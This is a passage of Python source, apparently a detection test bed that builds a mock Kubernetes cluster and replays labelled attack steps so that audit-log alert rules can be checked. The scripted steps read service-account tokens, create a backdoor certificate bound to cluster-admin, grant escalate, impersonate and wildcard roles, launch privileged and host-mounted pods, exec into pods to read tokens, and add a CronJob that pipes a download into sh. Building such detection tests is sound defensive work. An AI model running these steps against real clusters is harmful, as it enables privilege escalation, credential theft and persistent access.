        rule(["batch"], ["jobs", "cronjobs"], ["list", "watch"])]))
    o.append(binding("kube-state-metrics", "ClusterRole", "kube-state-metrics", [sa_subj("monitoring", "kube-state-metrics")]))
    o.append(binding("kube-rbac-proxy", "ClusterRole", "system:auth-delegator", [sa_subj("monitoring", "kube-rbac-proxy")]))
    o.append(role("ci-deployer", [rule([""], ["configmaps", "secrets", "services", "serviceaccounts"], WRITE),
                                  rule(["apps"], ["deployments", "deployments/scale"], WRITE),
                                  rule(["networking.k8s.io"], ["ingresses"], WRITE),
                                  rule(["policy"], ["poddisruptionbudgets"], WRITE)]))
    for ns in sorted({a[0] for a in APPS if a[4] != "none"}):
        o.append(binding("ci-deployer", "ClusterRole", "ci-deployer", [sa_subj("ci", "deployer")], ns))
    o.append(role("cert-manager-controller", [rule([""], ["secrets"], WRITE),
                                              rule(["networking.k8s.io"], ["ingresses"], READ),
                                              rule([""], ["events"], ["create", "patch"])]))
    o.append(binding("cert-manager-controller", "ClusterRole", "cert-manager-controller", [sa_subj("cert-manager", "cert-manager")]))
    o.append(role("cert-manager-cainjector", [rule(["admissionregistration.k8s.io"],
                                                   ["validatingwebhookconfigurations", "mutatingwebhookconfigurations"],
                                                   ["get", "list", "watch", "update", "patch"])]))
    o.append(binding("cert-manager-cainjector", "ClusterRole", "cert-manager-cainjector",
                     [sa_subj("cert-manager", "cert-manager-cainjector")]))
    o.append(role("argocd-application-controller", [rule(["*"], ["*"], READ),
                                                    {"nonResourceURLs": ["*"], "verbs": ["get"]}]))
    o.append(binding("argocd-application-controller", "ClusterRole", "argocd-application-controller",
                     [sa_subj("argocd", "argocd-application-controller")]))
    for ns in ["shop", "inventory", "frontend"]:
        o.append(binding("alice-edit", "ClusterRole", "edit", [user("alice")], ns))
    for ns in ["payments", "search", "analytics"]:
        o.append(binding("dave-edit", "ClusterRole", "edit", [user("dave")], ns))
    o.append(role("ops-admin", [
        rule(["", "apps", "batch", "autoscaling", "policy", "networking.k8s.io", "discovery.k8s.io"],
             ["pods", "pods/log", "pods/eviction", "services", "endpoints", "configmaps", "events", "namespaces",
              "nodes", "replicationcontrollers", "deployments", "deployments/scale", "replicasets", "statefulsets",
              "daemonsets", "jobs", "cronjobs", "horizontalpodautoscalers", "poddisruptionbudgets", "ingresses",
              "networkpolicies", "endpointslices", "persistentvolumeclaims", "resourcequotas", "limitranges"],
             WRITE),
        rule(["authorization.k8s.io"], ["selfsubjectaccessreviews"], ["create"])]))
    o.append(binding("ops-admin", "ClusterRole", "ops-admin", [user("bob")]))
    o.append(binding("carol-view", "ClusterRole", "view", [user("carol")], "analytics"))
    o.append(binding("ci-bot-view", "ClusterRole", "view", [user("ci-bot")]))
    o.append(role("app-peer-discovery", [rule([""], ["configmaps", "pods", "endpoints"], READ)]))
    for ns, app in APP_CLIENTS:
        o.append(binding(f"{app}-peer-discovery", "ClusterRole", "app-peer-discovery", [sa_subj(ns, app)], ns))
    # held by identities that only attack (their credentials are stolen or abused)
    o.append(role("billing-worker", [rule([""], ["pods", "configmaps"], ["get", "list"])], "payments"))
    o.append(binding("billing-worker", "Role", "billing-worker", [sa_subj("payments", "billing-worker")], "payments"))
    o.append(role("backup-secret-reader", [rule([""], ["secrets", "namespaces"], ["get", "list"])]))
    o.append(binding("backup-agent", "ClusterRole", "backup-secret-reader", [sa_subj("tools", "backup-agent")]))
    o.append(binding("platform-oncall", "ClusterRole", "cluster-admin", [user("mallory")]))
    for ns in ["shop", "payments"]:
        o.append(binding("eve-admin", "ClusterRole", "admin", [user("eve")], ns))
    # a status page left readable without credentials
    o.append(role("public-status", [rule([""], ["configmaps", "pods"], ["get", "list"])], "frontend"))
    o.append(binding("public-status", "Role", "public-status", [user("system:anonymous")], "frontend"))
    return o


def setup(tb, w, data_dir, rate):
    api = Api(tb, tb.admin, KUBECTL_UA, kind="setup")
    for ns in APP_NAMESPACES + ["monitoring", "ci", "cert-manager", "argocd", "tools"]:
        labels = {"team": {"shop": "web", "payments": "payments", "inventory": "supply"}.get(ns, "platform")}
        if ns in RESTRICTED_NS:
            labels.update({"pod-security.kubernetes.io/enforce": "restricted",
                           "pod-security.kubernetes.io/warn": "restricted"})
        create(api, {"apiVersion": "v1", "kind": "Namespace", "metadata": meta(ns, labels=labels)})
    sas = BENIGN_SAS + [(ns, app) for ns, app, *_ in APPS] + \
        [("ci", "legacy-runner"), ("payments", "billing-worker"), ("tools", "backup-agent")]
    for ns, n in sorted(set(sas)):
        create(api, {"apiVersion": "v1", "kind": "ServiceAccount", "metadata": meta(n, ns)})
    for o in rbac_objects():
        create(api, o)

    sched = Scheduler(tb)
    sched.start()
    nodes = [NodeAgent(tb, n, i, rate) for i, n in enumerate(NODES)]
    for n in nodes:
        n.register()
        n.start(tb)

    # Secrets and ConfigMaps the apps use; TLS secrets; Helm's release history.
    for ns, app, reps, secret, how in APPS:
        create(api, app_config(ns, app))
        if secret:
            create(api, {"apiVersion": "v1", "kind": "Secret", "type": "Opaque", "metadata": meta(f"{app}-db", ns),
                         "data": {"DB_USER": b64s(app), "DB_PASSWORD": b64s(rnd_token(18))}})
        if how == "helm":
            for rev in range(1, 4):
                create(api, helm_release(ns, app, rev, "deployed" if rev == 3 else "superseded"))
    for ns in APP_NAMESPACES:
        create(api, tls_secret(ns, f"{ns}-tls"))
        create(api, {"apiVersion": "networking.k8s.io/v1", "kind": "NetworkPolicy", "metadata": meta("default-deny", ns),
                     "spec": {"podSelector": {}, "policyTypes": ["Ingress"]}})
    create(api, {"apiVersion": "v1", "kind": "Secret", "type": "kubernetes.io/service-account-token",
                 "metadata": meta("web-token", "shop", annotations={"kubernetes.io/service-account.name": "web"})})
    create(api, {"apiVersion": "v1", "kind": "ConfigMap", "metadata": meta("alertmanager-templates", "monitoring"),
                 "data": {"slack.tmpl": '{{ define "slack.title" }}{{ .CommonLabels.alertname }}{{ end }}'}})
    for ns, app, reps, secret, how in APPS:
        create(api, deployment(ns, app, reps, "1.0.0", secret))
        create(api, service(ns, app))
        if how == "ssa":
            # what the first pipeline run left: kubectl owns the fields from now on
            ssa(api, deployment(ns, app, reps, "1.0.0", secret,
                                labels={"app.kubernetes.io/managed-by": "ci", "app.kubernetes.io/version": "1.0.0"}),
                "kubectl")
    create(api, {"apiVersion": "networking.k8s.io/v1", "kind": "Ingress", "metadata": meta("ui", "frontend"),
                 "spec": {"ingressClassName": "nginx",
                          "tls": [{"hosts": ["www.example.com"], "secretName": "frontend-tls"}],
                          "rules": [{"host": "www.example.com", "http": {"paths": [
                              {"path": "/", "pathType": "Prefix",
                               "backend": {"service": {"name": "ui", "port": {"number": 80}}}}]}}]}})
    # Platform workloads: Prometheus, kube-state-metrics, node-exporter (a node agent with host access),
    # cert-manager, Argo CD.
    for ns, app in [("monitoring", "prometheus"), ("monitoring", "kube-state-metrics"), ("cert-manager", "cert-manager"),
                    ("argocd", "argocd-application-controller")]:
        create(api, app_config(ns, app))
        create(api, deployment(ns, app, 1))
    create(api, {"apiVersion": "apps/v1", "kind": "DaemonSet", "metadata": meta("node-exporter", "monitoring"),
                 "spec": {"selector": {"matchLabels": {"app.kubernetes.io/name": "node-exporter"}},
                          "template": {"metadata": {"labels": {"app.kubernetes.io/name": "node-exporter"}},
                                       "spec": {"hostNetwork": True, "hostPID": True,
                                                "serviceAccountName": "prometheus",
                                                "tolerations": [{"operator": "Exists"}],
                                                "containers": [{"name": "node-exporter",
                                                                "image": "quay.io/prometheus/node-exporter:v1.8.2",
                                                                "args": ["--path.rootfs=/host"],
                                                                "volumeMounts": [{"name": "root", "mountPath": "/host",
                                                                                  "readOnly": True}]}],
                                                "volumes": [{"name": "root", "hostPath": {"path": "/"}}]}}}})
    for kind in ("ValidatingWebhookConfiguration", "MutatingWebhookConfiguration"):
        create(api, {"apiVersion": "admissionregistration.k8s.io/v1", "kind": kind,
                     "metadata": meta("cert-manager-webhook", annotations={"cert-manager.io/inject-ca-from-secret": "cert-manager/cert-manager-webhook-ca"}),
                     "webhooks": [{"name": "webhook.cert-manager.io", "admissionReviewVersions": ["v1"],
                                   "sideEffects": "None", "failurePolicy": "Fail", "timeoutSeconds": 30,
                                   "clientConfig": {"service": {"name": "cert-manager-webhook", "namespace": "cert-manager",
                                                                "path": "/validate" if kind[0] == "V" else "/mutate"}},
                                   "rules": [{"apiGroups": ["cert-manager.io", "acme.cert-manager.io"],
                                              "apiVersions": ["v1"], "operations": ["CREATE", "UPDATE"],
                                              "resources": ["*/*"]}]}]})

    # Tokens: each benign service account's (as its pod would hold), a token of a
    # service account since deleted (a CI job that never got the new one), and two
    # that leak to attackers.
    def token(ns, n, seconds=86400):
        st, out = api.post(f"/api/v1/namespaces/{ns}/serviceaccounts/{n}/token",
                           {"apiVersion": "authentication.k8s.io/v1", "kind": "TokenRequest",
                            "spec": {"expirationSeconds": seconds}})
        if st != 201:
            raise RuntimeError(f"token {ns}/{n}: {st} {out}")
        return out["status"]["token"]
    for ns, n in BENIGN_SAS:
        w.sa_idents[(ns, n)] = Ident(f"system:serviceaccount:{ns}:{n}", token=token(ns, n))
    w.legacy_ci = Ident("system:serviceaccount:ci:legacy-runner", token=token("ci", "legacy-runner"))
    api.delete("/api/v1/namespaces/ci/serviceaccounts/legacy-runner")
    p = tb.kubectl(tb.admin, "create", "token", "billing-worker", "-n", "payments", "--duration=24h", check=True)
    w.stolen = Ident("system:serviceaccount:payments:billing-worker", token=p.stdout.strip())
    w.backup = Ident("system:serviceaccount:tools:backup-agent", token=token("tools", "backup-agent"))

    # Wait for the controllers, the scheduler and the kubelets to settle.
    deadline = time.time() + 90
    while time.time() < deadline:
        st, pods = api.get("/api/v1/pods?limit=1000")
        st2, deps = api.get("/apis/apps/v1/deployments?limit=500")
        st3, tok = api.get("/api/v1/namespaces/shop/secrets/web-token")
        running = [p for p in pods["items"] if p["status"].get("phase") == "Running"]
        ready = [d for d in deps["items"] if is_ready(d)]
        if len(ready) == len(deps["items"]) and len(running) == len(pods["items"]) and \
                (tok.get("data") or {}).get("token"):
            break
        time.sleep(1)
    log(f"setup: {len(running)}/{len(pods['items'])} pods running, {len(ready)}/{len(deps['items'])} deployments ready")
    # The bindings as they are now, for --known-from.
    p = tb.kubectl(tb.admin, "get", "rolebindings,clusterrolebindings", "-A", "-o", "yaml", check=True)
    with open(os.path.join(data_dir, "rbac.yaml"), "w") as f:
        f.write(p.stdout)
    return api, sched, nodes


# ------------------------------------------------------------------ attacks

def ws_headers(protocol):
    return {"Connection": "Upgrade", "Upgrade": "websocket", "Sec-WebSocket-Version": "13",
            "Sec-WebSocket-Key": base64.b64encode(os.urandom(16)).decode(), "Sec-WebSocket-Protocol": protocol}


def priv_pod(ns, name, spec_extra=None, sc=None, volumes=None, mounts=None, image="docker.io/library/alpine:3.20"):
    c = {"name": name, "image": image, "command": ["sleep", "infinity"]}
    if sc:
        c["securityContext"] = sc
    if mounts:
        c["volumeMounts"] = mounts
    spec = {"containers": [c], "restartPolicy": "Always"}
    if volumes:
        spec["volumes"] = volumes
    spec.update(spec_extra or {})
    return {"apiVersion": "v1", "kind": "Pod", "metadata": meta(name, ns, {"run": name}), "spec": spec}


class Attacks:
    """The labelled steps. Each runs in the main thread; its identity acts only here."""

    def __init__(self, tb, w):
        self.tb, self.w = tb, w
        self.raw_ids = []
        self.mallory = self.api(w.mallory, UA_LINUX)
        self.eve = self.api(w.eve, UA_MAC)

    def api(self, ident, ua, xff=None):
        a = Api(self.tb, ident, ua, xff=xff, kind="attack")
        orig = a.call

        def call(*args, **kw):
            r = orig(*args, **kw)
            if a.last_audit_id:
                self.raw_ids.append(a.last_audit_id)
            return r
        a.call = call
        return a

    def kubectl(self, ident, *args, stdin=None):
        p = self.tb.kubectl(ident, *args, stdin=stdin)
        return p

    def k_create(self, ident, obj):
        return self.kubectl(ident, "create", "-f", "-", stdin=json.dumps(obj))

    def running_pod(self, api, ns, app):
        st, lst = api.get(f"/api/v1/namespaces/{ns}/pods?" + q(labelSelector=f"app.kubernetes.io/name={app}"))
        for p in lst.get("items", []):
            if p["status"].get("phase") == "Running" and not p["metadata"].get("deletionTimestamp"):
                return p["metadata"]["name"]
        raise RuntimeError(f"no running pod of {ns}/{app}")

    # -- credentials
    def token_secret_read(self):
        self.kubectl(self.w.mallory, "get", "secret", "web-token", "-n", "shop", "-o", "yaml")

    def token_request(self):
        self.kubectl(self.w.mallory, "create", "token", "api", "-n", "payments", "--duration=48h")

    def csr_create(self):
        key = os.path.join(self.tb.work, "backdoor.key")
        csr = subprocess.run(["openssl", "req", "-new", "-newkey", "ec", "-pkeyopt", "ec_paramgen_curve:prime256v1",
                              "-nodes", "-keyout", key, "-subj", "/O=platform-oncall/CN=mallory-backdoor"],
                             check=True, capture_output=True).stdout
        self.k_create(self.w.mallory, {
            "apiVersion": "certificates.k8s.io/v1", "kind": "CertificateSigningRequest",
            "metadata": {"name": "mallory-backdoor"},
            "spec": {"request": base64.b64encode(csr).decode(), "signerName": "kubernetes.io/kube-apiserver-client",
                     "expirationSeconds": 31536000, "usages": ["client auth"]}})

    def csr_approve(self):
        self.kubectl(self.w.mallory, "certificate", "approve", "mallory-backdoor")

    def configmap_credentials(self):
        self.kubectl(self.w.eve, "create", "configmap", "billing-export", "-n", "payments",
                     "--from-literal=aws_access_key_id=AKIAIOSFODNN7EXAMPLE",
                     "--from-literal=aws_secret_access_key=wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY",
                     "--from-literal=db.properties=url=jdbc:postgresql://ledger:5432/ledger\nuser=ledger\npassword=Sup3rS3cret!\n")

    # -- RBAC
    def bind_cluster_admin(self):
        self.kubectl(self.w.mallory, "create", "clusterrolebinding", "ops-breakglass", "--clusterrole=cluster-admin",
                     "--user=mallory-backdoor")

    def bind_powerful(self):
        self.kubectl(self.w.mallory, "create", "clusterrolebinding", "sync-edit", "--clusterrole=edit",
                     "--user=svc-sync")
        self.kubectl(self.w.mallory, "create", "rolebinding", "ledger-admin", "-n", "payments", "--clusterrole=admin",
                     "--user=svc-sync")

    def role_wildcard(self):
        self.k_create(self.w.mallory, role("debug-all", [rule(["*"], ["*"], ["*"])], "shop"))

    def role_nodes_proxy(self):
        self.k_create(self.w.mallory, role("node-debugger", [rule([""], ["nodes/proxy"], ["get", "create"]),
                                                            rule([""], ["nodes"], ["get", "list"])]))

    def role_escalate(self):
        self.k_create(self.w.mallory, role("rbac-helper", [
            rule(["rbac.authorization.k8s.io"], ["clusterroles", "roles"], ["escalate", "bind"]),
            rule([""], ["users", "groups", "serviceaccounts"], ["impersonate"])]))

    def role_write_secrets(self):
        self.k_create(self.w.mallory, role("secret-sync", [rule([""], ["secrets"], ["get", "create", "update", "patch"]),
                                                          rule(["apps"], ["deployments"], ["update", "patch"])],
                                           "payments"))

    def role_pod_exec(self):
        self.k_create(self.w.mallory, role("pod-debugger", [rule([""], ["pods"], ["get", "list"]),
                                                           rule([""], ["pods/exec", "pods/attach"], ["create", "get"])],
                                           "shop"))

    def system_role_change(self):
        self.kubectl(self.w.mallory, "patch", "clusterrole", "system:aggregate-to-view", "--type=json", "-p",
                     json.dumps([{"op": "add", "path": "/rules/-",
                                  "value": {"apiGroups": [""], "resources": ["secrets"], "verbs": ["get", "list"]}}]))

    # -- admission
    def webhook(self, kind):
        name = "policy-audit" if kind == "Validating" else "sidecar-injector"
        res = ["secrets"] if kind == "Validating" else ["pods"]
        obj = {"apiVersion": "admissionregistration.k8s.io/v1", "kind": f"{kind}WebhookConfiguration",
               "metadata": {"name": name},
               "webhooks": [{"name": f"{name}.platform.example.com", "admissionReviewVersions": ["v1"],
                             "sideEffects": "None", "failurePolicy": "Ignore", "timeoutSeconds": 2,
                             "clientConfig": {"url": f"https://127.0.0.1:9/{name}"},
                             "rules": [{"apiGroups": [""], "apiVersions": ["v1"], "operations": ["CREATE", "UPDATE"],
                                        "resources": res}]}]}
        self.k_create(self.w.mallory, obj)
        time.sleep(1)
        self.kubectl(self.w.mallory, "patch", f"{kind.lower()}webhookconfiguration", name, "--type=json", "-p",
                     json.dumps([{"op": "replace", "path": "/webhooks/0/clientConfig/url",
                                  "value": f"https://127.0.0.1:9/v2/{name}"}]))

    # -- commands in pods
    def exec_(self):
        pod = self.running_pod(self.eve, "shop", "web")
        self.kubectl(self.w.eve, "exec", "-n", "shop", pod, "-c", "web", "--", "sh", "-c",
                     "cat /var/run/secrets/kubernetes.io/serviceaccount/token")

    def attach(self):
        pod = self.running_pod(self.eve, "shop", "cart")
        self.kubectl(self.w.eve, "attach", "-n", "shop", pod, "-c", "cart")

    def port_forward(self):
        """What kubectl port-forward sends (its client-side check needs a running
        container, which a test bed without kubelet never has): WebSocket first,
        then SPDY."""
        pod = self.running_pod(self.eve, "payments", "api")
        path = f"/api/v1/namespaces/payments/pods/{pod}/portforward"
        self.eve.call("GET", path + "?ports=5432", headers=ws_headers("SPDY/3.1+portforward.k8s.io"))
        self.eve.call("POST", path, headers={"Connection": "Upgrade", "Upgrade": "SPDY/3.1",
                                             "X-Stream-Protocol-Version": "portforward.k8s.io"})

    def cp(self):
        pod = self.running_pod(self.eve, "payments", "api")
        out = os.path.join(self.tb.work, "loot")
        self.kubectl(self.w.eve, "cp", "-c", "api", f"payments/{pod}:/etc/app/app.yaml", out)

    # -- workloads
    def privileged_pod(self):
        self.k_create(self.w.eve, priv_pod("shop", "debug-tools", sc={"privileged": True}))

    def privileged_deployment(self):
        d = deployment("payments", "metrics-helper", 1, "0.3.1")
        c = d["spec"]["template"]["spec"]["containers"][0]
        c["securityContext"] = {"privileged": True}
        d["spec"]["template"]["spec"]["securityContext"] = {}
        d["spec"]["template"]["spec"]["serviceAccountName"] = "default"
        self.k_create(self.w.eve, d)

    def privileged_patch(self):
        self.kubectl(self.w.eve, "patch", "deployment", "catalog", "-n", "shop", "-p", json.dumps(
            {"spec": {"template": {"spec": {"containers": [{"name": "catalog", "securityContext": {
                "privileged": True, "allowPrivilegeEscalation": True}}]}}}}))

    def hostns_pod(self):
        self.k_create(self.w.eve, priv_pod("shop", "net-debug", spec_extra={"hostNetwork": True, "hostPID": True}))

    def hostns_patch(self):
        self.kubectl(self.w.eve, "patch", "deployment", "worker", "-n", "payments", "-p", json.dumps(
            {"spec": {"template": {"spec": {"hostNetwork": True, "hostPID": True}}}}))

    def hostpath_pod(self):
        self.k_create(self.w.eve, priv_pod("payments", "disk-check", volumes=[{"name": "host", "hostPath": {"path": "/"}}],
                                           mounts=[{"name": "host", "mountPath": "/host"}]))

    def hostpath_update(self):
        """kubectl replace: GET, edit, PUT."""
        st, d = self.eve.get("/apis/apps/v1/namespaces/payments/deployments/ledger")
        spec = d["spec"]["template"]["spec"]
        spec["volumes"].append({"name": "containerd", "hostPath": {"path": "/run/containerd/containerd.sock",
                                                                   "type": "Socket"}})
        spec["containers"][0]["volumeMounts"].append({"name": "containerd", "mountPath": "/run/containerd/containerd.sock"})
        d.pop("status", None)
        self.eve.put("/apis/apps/v1/namespaces/payments/deployments/ledger?fieldManager=kubectl-replace", d)

    def sys_admin_pod(self):
        self.k_create(self.w.eve, priv_pod("shop", "fs-tools", sc={"capabilities": {"add": ["SYS_ADMIN"]}}))

    def sys_admin_patch(self):
        self.kubectl(self.w.eve, "patch", "deployment", "recommendations", "-n", "shop", "-p", json.dumps(
            {"spec": {"template": {"spec": {"containers": [{"name": "recommendations", "securityContext": {
                "capabilities": {"add": ["SYS_ADMIN", "NET_ADMIN"], "drop": ["ALL"]}}}]}}}}))

    def kube_system_workload(self):
        self.kubectl(self.w.mallory, "create", "deployment", "kube-proxy-metrics", "-n", "kube-system",
                     "--image=docker.io/library/alpine:3.20", "--", "sleep", "infinity")

    def daemonset(self):
        self.k_create(self.w.eve, {"apiVersion": "apps/v1", "kind": "DaemonSet", "metadata": meta("log-shipper", "shop"),
                                   "spec": {"selector": {"matchLabels": {"app": "log-shipper"}},
                                            "template": {"metadata": {"labels": {"app": "log-shipper"}},
                                                         "spec": {"tolerations": [{"operator": "Exists"}],
                                                                  "containers": [{"name": "shipper",
                                                                                  "image": "docker.io/library/alpine:3.20",
                                                                                  "command": ["sh", "-c", "sleep infinity"]}]}}}})

    def cronjob(self):
        self.k_create(self.w.eve, {"apiVersion": "batch/v1", "kind": "CronJob", "metadata": meta("report-sync", "payments"),
                                   "spec": {"schedule": "*/1 * * * *", "successfulJobsHistoryLimit": 1,
                                            "jobTemplate": {"spec": {"template": {"spec": {
                                                "restartPolicy": "Never",
                                                "containers": [{"name": "sync", "image": "docker.io/curlimages/curl:8.9.1",
                                                                "command": ["sh", "-c", "curl -s https://example.net/r | sh"]}]}}}}}})

    # -- exposure
    def nodeport(self):
        self.kubectl(self.w.eve, "expose", "deployment", "web", "-n", "shop", "--name=web-debug", "--type=NodePort",
                     "--port=80", "--target-port=8080")

    def loadbalancer(self):
        self.kubectl(self.w.eve, "patch", "service", "ledger", "-n", "payments", "-p",
                     json.dumps({"spec": {"type": "LoadBalancer"}}))

    def ingress(self):
        self.kubectl(self.w.eve, "create", "ingress", "cart-public", "-n", "shop", "--class=nginx",
                     "--rule=cart.example.com/*=cart:80")

    # -- stolen credentials
    def anonymous(self):
        a = self.api(Ident("anonymous"), UA_CURL, xff=ATTACK_ANON)
        a.get("/api/v1/namespaces/frontend/configmaps")
        a.get("/api/v1/namespaces/frontend/pods")
        a.get("/api/v1/namespaces/kube-system/secrets")

    def sa_outside(self):
        a = self.api(self.w.stolen, UA_LINUX, xff=ATTACK_OUTSIDE)
        a.get("/api/v1/namespaces/payments/pods?limit=500")
        a.get("/api/v1/namespaces/payments/configmaps?limit=500")
        a.get("/api/v1/namespaces/payments/configmaps/api-config")

    def node_outside(self):
        a = self.api(self.w.worker9, UA_KUBELET, xff=ATTACK_OUTSIDE)
        a.get("/api/v1/pods?" + q(fieldSelector="spec.nodeName=worker-9", limit="500"))
        a.get("/api/v1/nodes?" + q(fieldSelector="metadata.name=worker-9", limit="500"))
        a.get("/api/v1/namespaces/payments/secrets/api-db")

    def forbidden_burst(self):
        a = self.api(self.w.stolen, UA_LINUX)
        paths = ["/api/v1/namespaces/payments/secrets", "/api/v1/namespaces/payments/pods",
                 "/apis/rbac.authorization.k8s.io/v1/clusterroles", "/apis/rbac.authorization.k8s.io/v1/clusterrolebindings",
                 "/api/v1/nodes", "/api/v1/namespaces", "/api/v1/secrets", "/api/v1/pods",
                 "/apis/certificates.k8s.io/v1/certificatesigningrequests",
                 "/apis/admissionregistration.k8s.io/v1/validatingwebhookconfigurations"]
        for ns in APP_NAMESPACES + ["kube-system", "monitoring", "ci", "argocd"]:
            paths += [f"/api/v1/namespaces/{ns}/secrets", f"/apis/apps/v1/namespaces/{ns}/deployments",
                      f"/api/v1/namespaces/{ns}/serviceaccounts"]
        for p in paths[:48]:
            a.get(p + "?limit=500")
            time.sleep(random.uniform(0.05, 0.3))

    def secrets_many(self):
        a = self.api(self.w.backup, "velero/v1.14.1 (linux/amd64) 8afe3cea")
        for ns in ["shop", "payments", "inventory", "auth", "analytics", "monitoring", "argocd"]:
            st, lst = a.get(f"/api/v1/namespaces/{ns}/secrets?limit=500")
            for s in (lst.get("items", []) if st == 200 else [])[:1]:
                a.get(f"/api/v1/namespaces/{ns}/secrets/{s['metadata']['name']}")
            time.sleep(random.uniform(0.5, 2))

    def failed_auth(self):
        for i in range(25):
            a = self.api(Ident("bogus", token="eyJhbGciOiJSUzI1NiJ9." + base64.urlsafe_b64encode(os.urandom(24)).decode()),
                         UA_PYREQ, xff=ATTACK_BRUTE)
            a.get(random.choice(["/api/v1/namespaces/kube-system/secrets", "/api/v1/nodes", "/apis",
                                 "/api/v1/namespaces/default/pods"]))
            a.close()
            time.sleep(0.15)

    def unknown_identity(self):
        a = self.api(self.w.trent, UA_LINUX)
        discovery(a)
        a.post("/apis/authentication.k8s.io/v1/selfsubjectreviews",
               {"apiVersion": "authentication.k8s.io/v1", "kind": "SelfSubjectReview"})
        a.post("/apis/authorization.k8s.io/v1/selfsubjectrulesreviews",
               {"apiVersion": "authorization.k8s.io/v1", "kind": "SelfSubjectRulesReview", "spec": {"namespace": "shop"}})
        a.get("/api/v1/namespaces/shop/pods?limit=500")


def steps(at, w):
    """(id, attack, expected rules, user ("" = matched by source address), needs, run)"""
    M, E = "mallory", "eve"
    S = "system:serviceaccount:payments:billing-worker"
    return [
        ("token-secret-read", "a person reads another account's service-account token Secret (shop/web-token)",
         ["Service Account Token Secret Read by a Person", "Secret Read by a Person"], M, [], at.token_secret_read),
        ("privileged-pod", "a privileged Pod is created", ["Privileged Workload Created or Changed"], E, [], at.privileged_pod),
        ("bind-cluster-admin", "a ClusterRoleBinding to cluster-admin for a new user",
         ["Binding to cluster-admin Created or Changed"], M, [], at.bind_cluster_admin),
        ("exec", "kubectl exec into a pod, reading its service-account token", ["Exec or Attach Into Pod"], E, [], at.exec_),
        ("sa-token-outside", "a stolen service-account token used from an address outside the cluster's networks",
         ["Service Account or System Identity Used From Outside"], S, ["--internal-cidr"], at.sa_outside),
        ("token-request", "a person requests a TokenRequest for a service account (kubectl create token)",
         ["Token Requested for a Service Account by a Person"], M, [], at.token_request),
        ("hostns-pod", "a Pod sharing the node's network and PID namespaces",
         ["Host Namespace Workload Created or Changed"], E, [], at.hostns_pod),
        ("role-wildcard", "a Role granting * on * in shop", ["Role With Wildcard Created or Changed"], M, [], at.role_wildcard),
        ("forbidden-burst", "a stolen low-privilege token enumerates the API: 46 list requests in a few seconds, 45 answered 403",
         ["Forbidden Requests Burst"], S, [], at.forbidden_burst),
        ("csr-create", "a CertificateSigningRequest for a kube-apiserver-client certificate (CN=mallory-backdoor, bound to cluster-admin in another step)",
         ["Client Certificate Requested"], M, [], at.csr_create),
        ("attach", "kubectl attach to a running container", ["Exec or Attach Into Pod"], E, [], at.attach),
        ("csr-approve", "the CSR approved by the same person", ["Certificate Signing Request Approved"], M, [], at.csr_approve),
        ("privileged-deployment", "a Deployment with a privileged container is created",
         ["Privileged Workload Created or Changed"], E, [], at.privileged_deployment),
        ("anonymous-request", "requests without credentials served to system:anonymous (a RoleBinding left from setup)",
         ["Unauthenticated Request Served"], "system:anonymous", [], at.anonymous),
        ("role-nodes-proxy", "a ClusterRole granting nodes/proxy", ["Role Granting nodes/proxy"], M, [], at.role_nodes_proxy),
        ("hostpath-pod", "a Pod mounting the node's / through hostPath", ["HostPath Workload Created or Changed"], E, [],
         at.hostpath_pod),
        ("validating-webhook", "a ValidatingWebhookConfiguration on Secrets created, then its URL changed",
         ["Admission Webhook Configuration Changed"], M, [], lambda: at.webhook("Validating")),
        ("secrets-many-namespaces", "a stolen backup token lists and reads Secrets in 7 namespaces within a minute",
         ["Secrets Read Across Many Namespaces"], "system:serviceaccount:tools:backup-agent", [], at.secrets_many),
        ("port-forward", "a port-forward to a pod (WebSocket, then SPDY)", ["Port Forward to Pod"], E, [], at.port_forward),
        ("role-escalate", "a ClusterRole granting escalate, bind and impersonate",
         ["Role Granting Escalate, Bind or Impersonate"], M, [], at.role_escalate),
        ("privileged-deployment-patch", "a benign Deployment (shop/catalog) patched to run privileged",
         ["Privileged Workload Created or Changed"], E, [], at.privileged_patch),
        ("node-outside", "a system:node identity (stolen kubelet certificate) used from outside the cluster's networks",
         ["Service Account or System Identity Used From Outside"], "system:node:worker-9", ["--internal-cidr"],
         at.node_outside),
        ("sys-admin-pod", "a Pod adding CAP_SYS_ADMIN", ["Dangerous Capability Added to Workload"], E, [], at.sys_admin_pod),
        ("role-write-secrets", "a Role granting create/update on Secrets and update on Deployments",
         ["Role Granting Write on Secrets or Workloads"], M, [], at.role_write_secrets),
        ("cp", "kubectl cp out of a pod (tar through exec)", ["File Copied Through Exec", "Exec or Attach Into Pod"], E, [],
         at.cp),
        ("failed-auth-burst", "25 requests with forged bearer tokens from one address within a few seconds",
         ["Failed Authentication Burst"], "", [], at.failed_auth),
        ("hostns-deployment-patch", "a benign Deployment (payments/worker) patched to hostNetwork and hostPID",
         ["Host Namespace Workload Created or Changed"], E, [], at.hostns_patch),
        ("role-pod-exec", "a Role granting pods/exec and pods/attach", ["Role With Pod Exec Created or Changed"], M, [],
         at.role_pod_exec),
        ("daemonset", "a DaemonSet created (one pod on every node)", ["DaemonSet Created"], E, [], at.daemonset),
        ("bind-powerful-role", "bindings to edit (cluster-wide) and admin (in payments) for a new user",
         ["Binding to a Powerful ClusterRole Created or Changed"], M, [], at.bind_powerful),
        ("hostpath-deployment-update", "a benign Deployment (payments/ledger) replaced (PUT) with the containerd socket mounted",
         ["HostPath Workload Created or Changed"], E, [], at.hostpath_update),
        ("unknown-identity", "requests by a certificate user whose user and group no binding names",
         ["Request by an Identity No Binding Names"], "trent", ["--known-from"], at.unknown_identity),
        ("nodeport-service", "a NodePort Service created (kubectl expose)", ["Service Exposed Through NodePort or LoadBalancer"],
         E, [], at.nodeport),
        ("system-role-change", "secrets get/list added to the system:aggregate-to-view ClusterRole",
         ["System Role or Binding Changed"], M, [], at.system_role_change),
        ("sys-admin-deployment-patch", "a benign Deployment (shop/recommendations) patched to add SYS_ADMIN and NET_ADMIN",
         ["Dangerous Capability Added to Workload"], E, [], at.sys_admin_patch),
        ("mutating-webhook", "a MutatingWebhookConfiguration on Pods created, then its URL changed",
         ["Admission Webhook Configuration Changed"], M, [], lambda: at.webhook("Mutating")),
        ("cronjob", "a CronJob created that pipes a download into sh", ["CronJob Created"], E, [], at.cronjob),
        ("kube-system-workload", "a person creates a Deployment in kube-system",
         ["Workload Created in kube-system by a Person"], M, [], at.kube_system_workload),
        ("loadbalancer-service", "a benign Service (payments/ledger) patched to type LoadBalancer",
         ["Service Exposed Through NodePort or LoadBalancer"], E, [], at.loadbalancer),
